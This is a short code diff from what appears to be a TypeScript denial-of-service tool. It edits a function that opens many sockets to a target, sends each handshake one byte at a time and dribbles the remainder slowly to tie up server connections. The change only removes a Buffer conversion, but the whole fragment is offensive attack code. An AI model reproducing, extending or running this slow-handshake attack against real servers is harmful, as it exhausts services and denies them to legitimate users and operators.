@@ -38,7 +38,7 @@ function dribble(attack: Attack, peer: Peer, bytes: Buffer): void {
 function slowHandshakes(attack: Attack): void {
   for (let left = attack.settings.sockets; left > 0; left--) {
     const peer = attack.dial()
-    const request = Buffer.from(handshakeOf(attack.settings, attack.token()))
+    const request = handshakeOf(attack.settings, attack.token())
     peer.socket.write(request.subarray(0, 1))
     dribble(attack, peer, request.subarray(1))
   }
